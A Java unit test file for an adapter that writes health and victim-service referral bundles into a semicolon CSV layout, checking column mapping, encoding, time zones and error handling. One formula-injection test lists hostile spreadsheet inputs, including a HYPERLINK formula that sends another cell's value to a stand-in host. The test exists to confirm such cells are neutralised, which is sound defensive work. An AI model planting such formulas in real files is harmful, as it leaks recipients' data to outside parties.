package id.lintas.adapter.ppu;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import id.lintas.contracts.canonical.Bundles;
import id.lintas.contracts.canonical.Canonical;
import id.lintas.contracts.canonical.CanonicalReader;
import id.lintas.contracts.region.RegionTable;
import id.lintas.contracts.spi.CanonicalReferral;
import id.lintas.contracts.spi.FieldError;
import id.lintas.contracts.spi.OutboundDocument;
import id.lintas.contracts.spi.RegionAdapter;
import id.lintas.contracts.spi.TranslationException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.ServiceLoader;
import java.util.Set;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Coding;
import org.hl7.fhir.r4.model.Condition;
import org.hl7.fhir.r4.model.DateTimeType;
import org.hl7.fhir.r4.model.HumanName;
import org.hl7.fhir.r4.model.Patient;
import org.hl7.fhir.r4.model.RelatedPerson;
import org.hl7.fhir.r4.model.ServiceRequest;
import org.junit.jupiter.api.Test;

class PpuReferralRendererTest {

    private static final Set<String> REGION_COLUMNS =
            Set.of("Kab/Kota Domisili", "Kab/Kota Kejadian", "Kab/Kota Tujuan");

    private final PpuCsvAdapter adapter = new PpuCsvAdapter();

    @Test
    void isFoundByTheServiceLoader() {
        assertThat(ServiceLoader.load(RegionAdapter.class).stream().map(ServiceLoader.Provider::get))
                .anySatisfy(a -> {
                    assertThat(a).isInstanceOf(PpuCsvAdapter.class);
                    assertThat(a.format()).isEqualTo("ppu-csv");
                    assertThat(a.transport()).isEqualTo(id.lintas.contracts.spi.Transport.FILE);
                });
    }

    @Test
    void roundTripKeepsEveryColumnOfEveryRow() throws Exception {
        List<Map<String, String>> input = Fixtures.rows(Fixtures.sample(Fixtures.RUJUKAN));
        List<CanonicalReferral> referrals = Fixtures.referrals(Fixtures.read(Fixtures.RUJUKAN));

        List<Map<String, String>> output = new java.util.ArrayList<>();
        for (int i = 0; i < referrals.size(); i++) {
            OutboundDocument document = adapter.renderReferral(
                    CanonicalReader.standard()
                            .outbound("hub-" + i, Fixtures.PPU, referrals.get(i).bundle()),
                    Fixtures.PPU);
            assertThat(document.target()).isEqualTo("RUJUKAN_MASUK_hub-" + i + ".csv");
            assertThat(Fixtures.header(document.content())).containsExactlyElementsOf(Columns.RUJUKAN_MASUK_LAYOUT);
            output.addAll(Fixtures.rows(document.content()));
        }

        assertThat(output).hasSameSizeAs(input);
        List<String> numbers = List.of("1", "1", "2");
        List<String> hubIds = List.of("hub-0", "hub-1", "hub-1");
        for (int row = 0; row < input.size(); row++) {
            Map<String, String> in = input.get(row);
            Map<String, String> out = output.get(row);
            for (String column : Columns.RUJUKAN_LAYOUT) {
                String expected = column.equals("No")
                        ? numbers.get(row)
                        : REGION_COLUMNS.contains(column) ? kemendagriName(in.get(column)) : in.get(column);
                assertThat(out.get(column))
                        .as("row %d, column %s", row + 1, column)
                        .isEqualTo(expected);
            }
            assertThat(out.get("ID Rujukan Hub")).isEqualTo(hubIds.get(row));
            assertThat(out.get("Asal Kab/Kota")).isEqualTo("Kabupaten Penajam Paser Utara");
        }
        assertThat(output.get(0).get("Kab/Kota Tujuan")).isEqualTo("Kabupaten Kutai Kartanegara");
        assertThat(output.get(1).get("Kab/Kota Kejadian")).isEqualTo("Kabupaten Penajam Paser Utara");
    }

    @Test
    void writesBomCrlfAndQuotesValuesHoldingASemicolon() throws Exception {
        Bundle bundle = firstReferral();
        byte[] content = adapter.renderReferral(
                        CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                .content();

        String text = new String(content, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFFNo;No Registrasi;Jenis Rujukan;");
        assertThat(text.split("\r\n")).hasSize(2);
        assertThat(text).endsWith("\r\n");
        assertThat(text)
                .contains(";\"Korban bekerja di warung milik Joko T. di Penajam tanpa digaji selama 3 bulan; "
                        + "identitas (KTP) ditahan. Korban ingin pulang ke Tenggarong.\";");
    }

    @Test
    void writesTimesInTheReceiversZone() throws Exception {
        Bundle bundle = firstReferral();
        byte[] content = adapter.renderReferral(
                        CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.JAKARTA)
                .content();

        assertThat(Fixtures.rows(content).get(0))
                .containsEntry("Tgl Lapor", "22/07/2025")
                .containsEntry("Jam Lapor", "14:20");
    }

    @Test
    void leavesCellsEmptyForDataTheBundleDoesNotHold() throws Exception {
        Bundle bundle = firstReferral();
        Bundles.task(bundle).getNote().clear();
        bundle.getEntry()
                .removeIf(e -> e.getResource() instanceof RelatedPerson p && PerpetratorMapper.isPerpetrator(p));
        Patient victim = Bundles.first(bundle, Patient.class).orElseThrow();
        victim.getIdentifier().clear();
        victim.setBirthDate(null);
        Bundles.task(bundle).getExtension().removeIf(e -> e.getUrl().equals(Canonical.EXT_REQUESTED_DESTINATION));

        Map<String, String> row = Fixtures.rows(adapter.renderReferral(
                                CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                        .content())
                .get(0);

        for (String column : List.of(
                "Kronologi",
                "Nama Pelaku",
                "JK Pelaku",
                "Umur Pelaku",
                "Hubungan Pelaku",
                "NIK Korban",
                "Tgl Lahir Korban",
                "Kab/Kota Tujuan")) {
            assertThat(row.get(column)).as(column).isEmpty();
        }
        assertThat(row.get("Nama Korban")).isEqualTo("Sri Wahyuni");
    }

    @Test
    void failsByColumnAndCodeOnAHubCodePpuCannotExpress() throws Exception {
        Bundle bundle = firstReferral();
        Bundles.first(bundle, ServiceRequest.class)
                .orElseThrow()
                .getCode()
                .getCodingFirstRep()
                .setCode("VISUM");
        RelatedPerson perpetrator = PpuRujukanReaderTest.perpetrators(bundle).get(0);
        perpetrator.setGender(org.hl7.fhir.r4.model.Enumerations.AdministrativeGender.OTHER);

        assertThatThrownBy(() -> adapter.renderReferral(
                        CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU))
                .isInstanceOf(TranslationException.class)
                .satisfies(e -> assertThat(((TranslationException) e).errors())
                        .containsExactlyInAnyOrder(
                                new FieldError(
                                        "Layanan Dibutuhkan", "code 'VISUM' has no equivalent in ppu's list layanan"),
                                new FieldError(
                                        "JK Pelaku", "code 'other' has no equivalent in ppu's list jenis_kelamin")));
    }

    @Test
    void writesAnUnknownRelationOrEducationAsAnEmptyCell() throws Exception {
        Bundle bundle = firstReferral();
        RelatedPerson perpetrator = PpuRujukanReaderTest.perpetrators(bundle).get(0);
        perpetrator.getRelationship().get(0).getCodingFirstRep().setCode("TIDAK_DIKETAHUI");
        Patient victim = Bundles.first(bundle, Patient.class).orElseThrow();
        ((Coding) victim.getExtensionByUrl(Canonical.EXT_EDUCATION).getValue()).setCode("TIDAK_DIKETAHUI");

        Map<String, String> row = Fixtures.rows(adapter.renderReferral(
                                CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                        .content())
                .get(0);

        assertThat(row.get("Hubungan Pelaku")).isEmpty();
        assertThat(row.get("Pendidikan Korban")).isEmpty();
        assertThat(row.get("Nama Pelaku")).isEqualTo("Joko T.");
    }

    @Test
    void keepsWhatNoCellCanHoldInTheChronologyInsteadOfDroppingIt() throws Exception {
        Bundle bundle = firstReferral();
        RelatedPerson second = PpuRujukanReaderTest.perpetrators(bundle).get(0).copy();
        second.getName().clear();
        second.addName(new HumanName().setText("Agen penyalur"));
        second.setGender(org.hl7.fhir.r4.model.Enumerations.AdministrativeGender.FEMALE);
        second.getExtension().clear();
        second.getRelationship().get(0).getCodingFirstRep().setCode("TIDAK_DIKETAHUI");
        Bundles.add(bundle, second);
        Bundles.all(bundle, Condition.class).forEach(c -> c.setOnset(new DateTimeType("2025-06")));

        Map<String, String> row = Fixtures.rows(adapter.renderReferral(
                                CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                        .content())
                .get(0);

        assertThat(row.get("Nama Pelaku")).isEqualTo("Joko T.");
        assertThat(row.get("Tgl Kejadian")).isEmpty();
        assertThat(row.get("Kronologi"))
                .startsWith("Korban bekerja di warung")
                .contains("Catatan Lintas")
                .contains("Pelaku 2: Nama Pelaku Agen penyalur, JK Pelaku Perempuan")
                .contains(
                        "Korban 1: Tgl Kejadian hanya diketahui sebagian / incident date known only in part: 2025-06");
    }

    @Test
    void repeatsTheCasesOnlyPerpetratorOnEveryVictimsRow() throws Exception {
        Bundle siblings =
                Fixtures.referrals(Fixtures.read(Fixtures.RUJUKAN)).get(1).bundle();
        List<Map<String, String>> rows = Fixtures.rows(
                adapter.renderReferral(CanonicalReader.standard().outbound("h2", Fixtures.PPU, siblings), Fixtures.PPU)
                        .content());

        assertThat(rows).extracting(r -> r.get("Nama Pelaku")).containsExactly("Slamet R.", "Slamet R.");
        assertThat(rows).extracting(r -> r.get("No")).containsExactly("1", "2");
        assertThat(rows).extracting(r -> r.get("Pemberi Persetujuan")).containsExactly("Pendamping", "Pendamping");
    }

    @Test
    void writesEveryCellASpreadsheetWouldRunAsAFormulaAsText() throws Exception {
        List<String> formulas = List.of(
                "=HYPERLINK(\"http://x.example/?d=\"&H2,\"Klik\")",
                "+1+2",
                "-1+2",
                "@SUM(A1)",
                "\t=1+2",
                "\r=1+2",
                " =1+2",
                "\uFF1D1+2");
        for (String formula : formulas) {
            Bundle bundle = firstReferral();
            Patient victim = Bundles.all(bundle, Patient.class).get(0);
            victim.getNameFirstRep().setText(formula);

            byte[] content = adapter.renderReferral(
                            CanonicalReader.standard().outbound("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                    .content();

            assertThat(Fixtures.rows(content).get(0).get("Nama Korban"))
                    .as(formula)
                    .startsWith("'")
                    .endsWith(formula.strip());
            assertThat(victim.getNameFirstRep().getText())
                    .as("the canonical model keeps the value")
                    .isEqualTo(formula);
        }
    }

    @Test
    void leavesOrdinaryCellsAsTheyAre() {
        assertThat(CsvText.neutralise("Rina Marlina")).isEqualTo("Rina Marlina");
        assertThat(CsvText.neutralise("22/07/2025")).isEqualTo("22/07/2025");
        assertThat(CsvText.quote("a;b")).isEqualTo("\"a;b\"");
        assertThat(CsvText.quote("=1;2")).isEqualTo("\"'=1;2\"");
    }

    private static Bundle firstReferral() throws Exception {
        return Fixtures.referrals(Fixtures.read(Fixtures.RUJUKAN)).get(0).bundle();
    }

    private static String kemendagriName(String typed) {
        if (typed == null || typed.isEmpty()) {
            return typed;
        }
        return RegionTable.standard().byName(typed).get(0).name();
    }
}
